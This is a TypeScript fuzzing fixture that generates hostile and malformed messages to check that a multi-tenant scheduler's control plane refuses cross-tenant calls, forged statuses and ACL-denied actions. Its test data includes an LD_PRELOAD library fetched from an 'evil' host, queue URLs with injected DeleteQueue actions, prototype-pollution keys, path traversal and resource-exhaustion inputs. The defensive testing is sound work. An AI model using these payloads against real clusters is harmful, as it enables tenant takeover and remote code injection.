/**
 * Hostile input for the control plane's call handlers: fast-check generators over the message
 * schemas (valid calls aimed at another tenant, then mutated field by field with hostile values)
 * and hand-made cases (deep nesting, huge lists, unknown types, non-numbers and negative
 * resources, other tenants' ids, queue URLs that are not the sender's).
 */
import fc from 'fast-check';
import { LIMITS } from '../../lib/protocol/index.ts';

/** The victim's ids, which the attacker names in its calls. */
export const VICTIM = { framework: 'fw', agent: 'a1', task: 't1', offer: 'o1@a1' } as const;
/** The attacker's own framework: calls in its name are authorized, and may name the victim's ids. */
export const ATTACKER_FRAMEWORK = 'atk';
export const PREFIX = 'meso';
export const HOME = 'http://sqs.local/000';

export const HOSTILE_QUEUE_URLS = [
  'https://evil.example.com/1/meso-agent-x.fifo',
  'https://evil.example.com/1/meso-fw-x.fifo',
  'ftp://x/meso-fw-x.fifo',
  'http://user:pass@sqs.local/000/meso-fw-x.fifo',
  'http://user:pass@sqs.local/000/meso-agent-x.fifo',
  `${HOME}/meso-agent-x.fifo?Action=DeleteQueue`,
  `${HOME}/meso-fw-x.fifo?Action=DeleteQueue`,
  `${HOME}/meso-fw-.fifo`,
  `${HOME}/meso-agent-.fifo`,
  `${HOME}/meso-agent-calls.fifo`,
  `${HOME}/meso-scheduler-calls.fifo`,
  `${HOME}/meso-agent-calls-dlq.fifo`,
  `${HOME}/meso-fw-x.fifo#frag`,
  'javascript:alert(1)',
  'not a url',
];

const ids = fc.oneof(
  fc.constantFrom(
    ...Object.values(VICTIM),
    ATTACKER_FRAMEWORK,
    'calls',
    'x',
    '__proto__',
    'constructor',
    '',
    '../../etc',
    'a'.repeat(129),
  ),
  fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._:@-]{0,20}$/),
);
const numbers = fc.oneof(
  fc.constantFrom(
    null,
    -1,
    -0,
    0,
    1e-10,
    0.0001,
    1.0005,
    5e-324,
    1e12 + 1,
    1e308,
    Number.MAX_SAFE_INTEGER + 2,
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);
const strings = fc.oneof(
  fc.constantFrom('', '\uFFFF', '\u0000', '\uD800', 'x'.repeat(70_000), 'TASK_RUNNING', 'LAUNCH', 'root'),
  fc.string({ maxLength: 30 }),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  ids,
  numbers,
  strings,
  fc.constantFrom(...HOSTILE_QUEUE_URLS),
  fc.constantFrom(true, false, [], {}, [[[[[]]]]], { __proto__: { polluted: true } }),
  fc.jsonValue({ maxDepth: 4 }),
);

const task = (over: Record<string, unknown> = {}) => ({
  taskId: VICTIM.task,
  agentId: VICTIM.agent,
  resources: { cpus: 1, mem: 128 },
  command: { value: 'id', environment: { LD_PRELOAD: './evil.so' }, user: 'root' },
  uris: [{ value: 'http://evil.example.com/evil.so' }],
  ...over,
});
const status = {
  taskId: VICTIM.task,
  frameworkId: VICTIM.framework,
  agentId: VICTIM.agent,
  state: 'TASK_FINISHED',
  source: 'SOURCE_EXECUTOR',
  uuid: 'forged',
  timestamp: 1,
};

/** Valid calls of every type, each naming the victim's ids. */
export const SCHEDULER_TEMPLATES: Record<string, unknown>[] = [
  {
    v: 1,
    type: 'SUBSCRIBE',
    framework: {
      frameworkId: VICTIM.framework,
      name: 'thief',
      roles: ['*', 'eng'],
      queueUrl: `${HOME}/meso-fw-thief.fifo`,
      offerFilters: { eng: { minAllocatableResources: [{ cpus: 1 }] } },
      heartbeatIntervalSeconds: 5,
    },
  },
  { v: 1, type: 'TEARDOWN', frameworkId: VICTIM.framework },
  {
    v: 1,
    type: 'ACCEPT',
    frameworkId: VICTIM.framework,
    offerIds: [VICTIM.offer],
    operations: [
      { type: 'RESERVE', resources: { reserved: { eng: { cpus: 1 } } } },
      { type: 'LAUNCH', tasks: [task({ taskId: 'stolen' })] },
    ],
  },
  {
    v: 1,
    type: 'DECLINE',
    frameworkId: VICTIM.framework,
    offerIds: [VICTIM.offer],
    filters: { refuseSeconds: 1e9 },
  },
  { v: 1, type: 'REVIVE', frameworkId: VICTIM.framework, roles: ['*'] },
  { v: 1, type: 'SUPPRESS', frameworkId: VICTIM.framework },
  { v: 1, type: 'KILL', frameworkId: VICTIM.framework, taskId: VICTIM.task, agentId: VICTIM.agent },
  {
    v: 1,
    type: 'ACKNOWLEDGE',
    frameworkId: VICTIM.framework,
    agentId: VICTIM.agent,
    taskId: VICTIM.task,
    uuid: 'u',
  },
  {
    v: 1,
    type: 'RECONCILE',
    frameworkId: VICTIM.framework,
    tasks: [{ taskId: VICTIM.task }, { taskId: 'nope' }],
  },
  { v: 1, type: 'HEARTBEAT', frameworkId: VICTIM.framework },
  {
    v: 1,
    type: 'READ_LOGS',
    frameworkId: VICTIM.framework,
    taskId: VICTIM.task,
    requestId: 'r1',
    stream: 'stdout',
    offset: 0,
    maxBytes: 1e12,
  },
  {
    v: 1,
    type: 'ACKNOWLEDGE',
    frameworkId: VICTIM.framework,
    acks: [
      { agentId: VICTIM.agent, taskId: VICTIM.task, uuid: 'u' },
      { agentId: 'x', taskId: VICTIM.task, uuid: 'u' },
    ],
  },
];

export const AGENT_TEMPLATES: Record<string, unknown>[] = [
  {
    v: 1,
    type: 'REGISTER',
    agentId: VICTIM.agent,
    hostname: 'evil',
    resources: { cpus: 64, mem: 65536, reserved: { eng: { cpus: 1 } } },
    attributes: { rack: 'r1' },
    queueUrl: `${HOME}/meso-agent-evil.fifo`,
    tasks: [
      { frameworkId: VICTIM.framework, taskId: VICTIM.task, state: 'TASK_RUNNING' },
      { frameworkId: 'x', taskId: 'y' },
    ],
  },
  { v: 1, type: 'HEARTBEAT', agentId: VICTIM.agent },
  { v: 1, type: 'STATUS_UPDATE', agentId: VICTIM.agent, status },
  {
    v: 1,
    type: 'STATUS_UPDATE',
    agentId: VICTIM.agent,
    status,
    latest: { state: 'TASK_FINISHED', source: 'SOURCE_EXECUTOR', timestamp: 1, exitCode: 0 },
  },
  {
    v: 1,
    type: 'LATEST_STATE',
    agentId: VICTIM.agent,
    frameworkId: VICTIM.framework,
    taskId: VICTIM.task,
    latest: { state: 'TASK_FINISHED', source: 'SOURCE_EXECUTOR', timestamp: 1, message: 'done' },
  },
  {
    v: 1,
    type: 'LOGS',
    agentId: VICTIM.agent,
    frameworkId: VICTIM.framework,
    taskId: VICTIM.task,
    requestId: 'r1',
    requester: 'attacker',
    stream: 'stdout',
    offset: 0,
    data: 'c2VjcmV0Cg==',
    size: 7,
    ended: false,
  },
];

/** Every path to a value inside `v` (objects and arrays). */
function paths(v: unknown, at: (string | number)[] = []): (string | number)[][] {
  if (v === null || typeof v !== 'object') return [at];
  const entries = Array.isArray(v) ? v.map((x, i) => [i, x] as const) : Object.entries(v);
  return [at, ...entries.flatMap(([k, x]) => paths(x, [...at, k]))];
}

function setAt(root: unknown, path: (string | number)[], value: unknown, remove: boolean): unknown {
  const copy = structuredClone(root);
  if (path.length === 0) return value;
  let o = copy as Record<string | number, unknown>;
  for (const k of [undefined, ...path.slice(0, -1)]) {
    if (k !== undefined) o = o[k] as Record<string | number, unknown>;
    // An earlier mutation replaced this part with a scalar: this one has nothing to change.
    if (o === null || typeof o !== 'object') return copy;
  }
  const last = path.at(-1)!;
  if (remove && !Array.isArray(o)) delete o[last];
  else Object.defineProperty(o, last, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

/** A template, mutated at 0 to 3 places: a value replaced, a field removed, a field added. */
export function mutatedCall(templates: Record<string, unknown>[]): fc.Arbitrary<string> {
  return fc
    .constantFrom(...templates)
    .chain((t) =>
      fc
        .array(
          fc.record({
            path: fc.constantFrom(...paths(t)),
            kind: fc.constantFrom('replace', 'replace', 'remove', 'add'),
            value: hostileValue,
            key: fc.constantFrom('extra', '__proto__', 'v', 'type', 'constructor'),
          }),
          { maxLength: 3 },
        )
        .map((ms) =>
          ms.reduce<unknown>((m, { path, kind, value, key }) => {
            if (kind === 'add') return setAt(m, [...path, key], value, false);
            return setAt(m, path, value, kind === 'remove');
          }, t),
        ),
    )
    .map((m) => JSON.stringify(m) ?? 'undefined');
}

/** Arbitrary JSON and arbitrary text. */
export const junk: fc.Arbitrary<string> = fc.oneof(
  fc.jsonValue({ maxDepth: 6 }).map((v) => JSON.stringify(v)),
  fc.string({ maxLength: 200 }),
  fc
    .jsonValue({ maxDepth: 3 })
    .map((v) => JSON.stringify({ v: 1, type: 'SUBSCRIBE', ...(typeof v === 'object' && v ? v : { x: v }) })),
);

const deep = (n: number, open = '[', close = ']', inner = '1') => open.repeat(n) + inner + close.repeat(n);
const many = <T>(n: number, f: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => f(i));

/** Hand-made hostile cases: [name, queue, body]. */
export function handMade(): [string, 'scheduler' | 'agent', string][] {
  const s = (name: string, body: unknown): [string, 'scheduler', string] => [
    name,
    'scheduler',
    typeof body === 'string' ? body : JSON.stringify(body),
  ];
  const a = (name: string, body: unknown): [string, 'agent', string] => [
    name,
    'agent',
    typeof body === 'string' ? body : JSON.stringify(body),
  ];
  const acceptWith = (t: Record<string, unknown>) => ({
    ...SCHEDULER_TEMPLATES[2],
    operations: [{ type: 'LAUNCH', tasks: [task({ taskId: 'new', ...t })] }],
  });
  const cases: [string, 'scheduler' | 'agent', string][] = [];
  for (const q of ['scheduler', 'agent'] as const) {
    const mk = q === 'scheduler' ? s : a;
    const hb = q === 'scheduler' ? `"frameworkId":"fw"` : `"agentId":"a1"`;
    cases.push(
      mk(`${q}: v nested 5,000 deep`, `{"v":${deep(5000)},"type":"HEARTBEAT",${hb}}`),
      mk(`${q}: type nested 5,000 deep`, `{"v":1,"type":${deep(5000, '{"a":', '}')},${hb}}`),
      mk(`${q}: a field nested 100,000 deep`, `{"v":1,"type":"HEARTBEAT",${hb},"x":${deep(100_000)}}`),
      mk(`${q}: unbalanced brackets 100,000 deep`, `{"v":1,"type":"HEARTBEAT","x":${'['.repeat(100_000)}`),
      mk(`${q}: a body of 2 MB`, `{"v":1,"type":"HEARTBEAT",${hb},"x":"${'x'.repeat(2_000_000)}"}`),
      mk(`${q}: unknown type`, { v: 1, type: 'DELETE_EVERYTHING', frameworkId: 'fw', agentId: 'a1' }),
      mk(`${q}: type __proto__`, { v: 1, type: '__proto__' }),
      mk(`${q}: type toString`, { v: 1, type: 'toString' }),
      mk(`${q}: v 2`, { v: 2, type: 'HEARTBEAT', frameworkId: 'fw', agentId: 'a1' }),
      mk(`${q}: not JSON`, '{"v":1,'),
      mk(`${q}: empty body`, ''),
      mk(`${q}: a JSON array`, '[1,2,3]'),
      mk(`${q}: null`, 'null'),
      mk(`${q}: a lone surrogate`, `{"v":1,"type":"HEARTBEAT",${hb},"x":"\\ud800"}`),
      mk(`${q}: __proto__ key`, `{"v":1,"type":"HEARTBEAT",${hb},"__proto__":{"polluted":true}}`),
    );
  }
  cases.push(
    s('SUBSCRIBE as the victim framework from another identity', SCHEDULER_TEMPLATES[0]),
    ...HOSTILE_QUEUE_URLS.map((u) =>
      s(`SUBSCRIBE with queue ${u}`, {
        v: 1,
        type: 'SUBSCRIBE',
        framework: { frameworkId: 'new', name: 'n', queueUrl: u },
      }),
    ),
    s('SUBSCRIBE with 65 roles', {
      v: 1,
      type: 'SUBSCRIBE',
      framework: {
        frameworkId: 'new',
        name: 'n',
        queueUrl: `${HOME}/meso-fw-new.fifo`,
        roles: many(65, (i) => `r${i}`),
      },
    }),
    s('SUBSCRIBE with 10,000 offerFilters roles', {
      v: 1,
      type: 'SUBSCRIBE',
      framework: {
        frameworkId: 'new',
        name: 'n',
        queueUrl: `${HOME}/meso-fw-new.fifo`,
        offerFilters: Object.fromEntries(
          many(10_000, (i) => [`r${i}`, { minAllocatableResources: [{ cpus: 1 }] }]),
        ),
      },
    }),
    s('TEARDOWN of the victim', SCHEDULER_TEMPLATES[1]),
    s("KILL of the victim's task", SCHEDULER_TEMPLATES[6]),
    s("ACKNOWLEDGE naming the victim's agent", SCHEDULER_TEMPLATES[7]),
    s("KILL of the victim's task, from the attacker's own framework", {
      ...SCHEDULER_TEMPLATES[6],
      frameworkId: ATTACKER_FRAMEWORK,
    }),
    s("RECONCILE of the victim's task, from the attacker's own framework", {
      ...SCHEDULER_TEMPLATES[8],
      frameworkId: ATTACKER_FRAMEWORK,
    }),
    s("ACKNOWLEDGE of several naming the victim's agent", SCHEDULER_TEMPLATES[11]),
    s("ACKNOWLEDGE of the victim's task among the attacker's acks, 50 times over", {
      v: 1,
      type: 'ACKNOWLEDGE',
      frameworkId: ATTACKER_FRAMEWORK,
      acks: many(50, (i) => ({ agentId: VICTIM.agent, taskId: i % 2 ? VICTIM.task : `t${i}`, uuid: 'u' })),
    }),
    s('ACKNOWLEDGE of 100,000 acks', {
      v: 1,
      type: 'ACKNOWLEDGE',
      frameworkId: 'fw',
      acks: many(100_000, (i) => ({ agentId: VICTIM.agent, taskId: `t${i}`, uuid: 'u' })),
    }),
    s('ACKNOWLEDGE in both forms at once', {
      ...SCHEDULER_TEMPLATES[7],
      acks: [{ agentId: VICTIM.agent, taskId: VICTIM.task, uuid: 'u' }],
    }),
    s('RECONCILE of 1,000 unknown ids', {
      v: 1,
      type: 'RECONCILE',
      frameworkId: 'fw',
      tasks: many(1000, (i) => ({ taskId: `u${i}` })),
    }),
    s("ACCEPT of the victim's offer", SCHEDULER_TEMPLATES[2]),
    s('ACCEPT with 100 × 100 tasks', {
      ...SCHEDULER_TEMPLATES[2],
      operations: many(100, (j) => ({
        type: 'LAUNCH',
        tasks: many(100, (i) => task({ taskId: `t${j}-${i}` })),
      })),
    }),
    s(
      'ACCEPT with 100,000 environment entries',
      acceptWith({
        command: { value: 'x', environment: Object.fromEntries(many(100_000, (i) => [`K${i}`, 'v'])) },
      }),
    ),
    s('ACCEPT with cpus 1e-10', acceptWith({ resources: { cpus: 1e-10 } })),
    s('ACCEPT with cpus -1', acceptWith({ resources: { cpus: -1 } })),
    s('ACCEPT with cpus NaN (null in JSON)', acceptWith({ resources: { cpus: Number.NaN } })),
    s(
      'ACCEPT with cpus 1e309 (Infinity)',
      JSON.stringify(acceptWith({ resources: { cpus: 7 } })).replace('"cpus":7', '"cpus":1e309'),
    ),
    s('ACCEPT with mem 1e308', acceptWith({ resources: { mem: 1e308 } })),
    s('ACCEPT with 100,000 URIs', acceptWith({ uris: many(100_000, () => ({ value: 'http://x/y' })) })),
    s('DECLINE of 100,000 offers', {
      v: 1,
      type: 'DECLINE',
      frameworkId: 'fw',
      offerIds: many(100_000, (i) => `o${i}`),
    }),
    a('REGISTER as the victim agent from another identity', AGENT_TEMPLATES[0]),
    a('REGISTER of agent id "calls"', {
      ...AGENT_TEMPLATES[0],
      agentId: 'calls',
      queueUrl: `${HOME}/meso-agent-calls.fifo`,
    }),
    ...HOSTILE_QUEUE_URLS.map((u) =>
      a(`REGISTER with queue ${u}`, { ...AGENT_TEMPLATES[0], agentId: 'evil', queueUrl: u }),
    ),
    a('REGISTER listing 10,000 unknown tasks', {
      ...AGENT_TEMPLATES[0],
      agentId: 'evil',
      queueUrl: `${HOME}/meso-agent-evil.fifo`,
      tasks: many(10_000, (i) => ({ frameworkId: 'fw', taskId: `u${i}` })),
    }),
    a('REGISTER with 100,000 attributes', {
      ...AGENT_TEMPLATES[0],
      agentId: 'evil',
      queueUrl: `${HOME}/meso-agent-evil.fifo`,
      attributes: Object.fromEntries(many(100_000, (i) => [`k${i}`, 'v'])),
    }),
    a('REGISTER with cpus -1', {
      ...AGENT_TEMPLATES[0],
      agentId: 'evil',
      queueUrl: `${HOME}/meso-agent-evil.fifo`,
      resources: { cpus: -1 },
    }),
    a("STATUS_UPDATE forged for the victim's task", AGENT_TEMPLATES[2]),
    a('HEARTBEAT as the victim agent', AGENT_TEMPLATES[1]),
  );
  return cases;
}

/**
 * Another tenant's queue named as one's own: refused once REGISTER and SUBSCRIBE compare the
 * queue with the one the id owns (`ownQueueUrlProblem(config, kind, url, id)`).
 */
export const OTHER_TENANTS_QUEUES: { kind: 'framework' | 'agent'; id: string; queueUrl: string }[] = [
  { kind: 'framework', id: 'new', queueUrl: `${HOME}/meso-fw-${VICTIM.framework}.fifo` },
  { kind: 'framework', id: ATTACKER_FRAMEWORK, queueUrl: `${HOME}/meso-fw-${VICTIM.framework}.fifo` },
  { kind: 'agent', id: 'evil', queueUrl: `${HOME}/meso-agent-${VICTIM.agent}.fifo` },
];

export { LIMITS };

/** An identity that has created as many ids as it may (the fuzz setup counts them at the cap). */
export const HOARDER = 'hoarder';

/**
 * What the attacker's identity may not do by the ACLs (the fuzz setup installs them): register in
 * role `secret`, run tasks as `root`, reserve for `eng`, tear down any framework.
 */
export const ATTACKER_ACLS = {
  permissive: true,
  register_frameworks: [{ principals: { values: ['attacker'] }, roles: { values: ['secret'] }, deny: true }],
  run_tasks: [{ principals: { values: ['attacker'] }, users: { values: ['root'] }, deny: true }],
  reserve_resources: [{ principals: { values: ['attacker'] }, roles: { values: ['eng'] }, deny: true }],
  teardown_frameworks: [{ principals: { values: ['attacker'] }, deny: true }],
};

export interface RefusedCase {
  readonly name: string;
  readonly queue: 'scheduler' | 'agent';
  readonly body: string;
  /** The FIFO group it is sent in (default: the one its sender would use). */
  readonly group: string;
  /** Its sender (default: the attacker). */
  readonly senderId?: string;
  /** The rejection it must get, counted once. */
  readonly code: string;
}

/**
 * Hostile calls that must be refused with one rejection and change nothing at all: a queue URL
 * that is not the one the id owns, what the ACLs refuse, a message group that is not the sender's,
 * an acknowledgement naming an agent that does not hold the task, a new id past the cap.
 */
/**
 * FrameworkInfo.heartbeatIntervalSeconds values a SUBSCRIBE must be refused for, as written in the
 * body's JSON: below the protocol's minimum, negative, fractional, beyond a day, Infinity (1e309),
 * NaN (JSON has none: null, or a string), and not numbers at all.
 */
export const HOSTILE_HEARTBEATS = [
  '0',
  '1',
  '-1',
  '2.5',
  '86401',
  '1e308',
  '1e309',
  String(2 ** 53 + 2),
  'null',
  '"NaN"',
  '"5"',
  'true',
  '{}',
];

export function refusedCases(): RefusedCase[] {
  const fwQ = (id: string) => `${HOME}/${PREFIX}-fw-${id}.fifo`;
  const agentQ = (id: string) => `${HOME}/${PREFIX}-agent-${id}.fifo`;
  const sc = (
    name: string,
    body: Record<string, unknown>,
    code: string,
    group?: string,
    senderId?: string,
  ) => ({
    name,
    queue: 'scheduler' as const,
    body: JSON.stringify(body),
    group:
      group ??
      String(body.frameworkId ?? (body.framework as { frameworkId: string } | undefined)?.frameworkId),
    code,
    ...(senderId ? { senderId } : {}),
  });
  const ag = (
    name: string,
    body: Record<string, unknown>,
    code: string,
    group?: string,
    senderId?: string,
  ) => ({
    name,
    queue: 'agent' as const,
    body: JSON.stringify(body),
    group: group ?? String(body.agentId),
    code,
    ...(senderId ? { senderId } : {}),
  });
  const subscribe = (frameworkId: string, over: Record<string, unknown> = {}) => ({
    v: 1,
    type: 'SUBSCRIBE',
    framework: { frameworkId, name: frameworkId, queueUrl: fwQ(frameworkId), ...over },
  });
  const register = (agentId: string, over: Record<string, unknown> = {}) => ({
    v: 1,
    type: 'REGISTER',
    agentId,
    hostname: agentId,
    resources: { cpus: 1, mem: 64 },
    queueUrl: agentQ(agentId),
    ...over,
  });
  const accept = (operations: unknown[]) => ({
    v: 1,
    type: 'ACCEPT',
    frameworkId: ATTACKER_FRAMEWORK,
    offerIds: [VICTIM.offer],
    operations,
  });
  return [
    sc(
      "SUBSCRIBE of a new id naming the victim's queue",
      subscribe('evil', { queueUrl: fwQ(VICTIM.framework) }),
      'INVALID',
    ),
    ag(
      "REGISTER of agent evil with the victim agent's queue and task list",
      register('evil', {
        queueUrl: agentQ(VICTIM.agent),
        tasks: [{ frameworkId: VICTIM.framework, taskId: VICTIM.task, state: 'TASK_RUNNING' }],
      }),
      'INVALID',
    ),
    sc('SUBSCRIBE in a role the ACLs refuse', subscribe('sneaky', { roles: ['secret'] }), 'FORBIDDEN'),
    sc(
      'ACCEPT launching as a user the ACLs refuse',
      accept([{ type: 'LAUNCH', tasks: [task({ taskId: 'r', command: { value: 'id', user: 'root' } })] }]),
      'FORBIDDEN',
    ),
    sc(
      'ACCEPT reserving for a role the ACLs refuse',
      accept([{ type: 'RESERVE', resources: { reserved: { eng: { cpus: 1 } } } }]),
      'FORBIDDEN',
    ),
    sc('TEARDOWN the ACLs refuse', { v: 1, type: 'TEARDOWN', frameworkId: ATTACKER_FRAMEWORK }, 'FORBIDDEN'),
    sc(
      "HEARTBEAT of its own framework in the victim's group",
      { v: 1, type: 'HEARTBEAT', frameworkId: ATTACKER_FRAMEWORK },
      'WRONG_GROUP',
      VICTIM.framework,
    ),
    sc(
      "KILL in the victim's group",
      { v: 1, type: 'KILL', frameworkId: ATTACKER_FRAMEWORK, taskId: VICTIM.task },
      'WRONG_GROUP',
      VICTIM.framework,
    ),
    sc("SUBSCRIBE in the victim's group", subscribe('other'), 'WRONG_GROUP', VICTIM.framework),
    ag(
      "HEARTBEAT in the victim agent's group",
      { v: 1, type: 'HEARTBEAT', agentId: 'evil' },
      'WRONG_GROUP',
      VICTIM.agent,
    ),
    ag(
      "REGISTER in the victim agent's task group",
      register('evil'),
      'WRONG_GROUP',
      `${VICTIM.agent}:${VICTIM.task}`,
    ),
    sc(
      "ACKNOWLEDGE naming the victim's agent for a task it does not hold",
      {
        v: 1,
        type: 'ACKNOWLEDGE',
        frameworkId: ATTACKER_FRAMEWORK,
        agentId: VICTIM.agent,
        taskId: VICTIM.task,
        uuid: 'u',
      },
      'UNKNOWN_TASK',
      `${ATTACKER_FRAMEWORK}:ack:${VICTIM.task}`,
    ),
    ...HOSTILE_HEARTBEATS.map((raw) => {
      const c = sc(
        `SUBSCRIBE with heartbeatIntervalSeconds ${raw}`,
        subscribe('beats', { heartbeatIntervalSeconds: 5 }),
        'INVALID',
      );
      return {
        ...c,
        body: c.body.replace('"heartbeatIntervalSeconds":5', `"heartbeatIntervalSeconds":${raw}`),
      };
    }),
    sc(
      "ACKNOWLEDGE of several, each naming the victim's agent or task, repeated",
      {
        v: 1,
        type: 'ACKNOWLEDGE',
        frameworkId: ATTACKER_FRAMEWORK,
        acks: [
          { agentId: VICTIM.agent, taskId: VICTIM.task, uuid: 'u' },
          { agentId: VICTIM.agent, taskId: VICTIM.task, uuid: 'u' },
          { agentId: VICTIM.agent, taskId: 'mine-or-not', uuid: 'u' },
        ],
      },
      'UNKNOWN_TASK',
      `${ATTACKER_FRAMEWORK}:ack`,
    ),
    sc(
      "ACKNOWLEDGE of several in the victim's acknowledgement group",
      {
        v: 1,
        type: 'ACKNOWLEDGE',
        frameworkId: ATTACKER_FRAMEWORK,
        acks: [{ agentId: VICTIM.agent, taskId: VICTIM.task, uuid: 'u' }],
      },
      'WRONG_GROUP',
      `${VICTIM.framework}:ack`,
    ),
    sc('SUBSCRIBE of one framework id too many', subscribe('one-more'), 'TOO_MANY_IDS', undefined, HOARDER),
    ag('REGISTER of one agent id too many', register('one-more'), 'TOO_MANY_IDS', undefined, HOARDER),
  ];
}
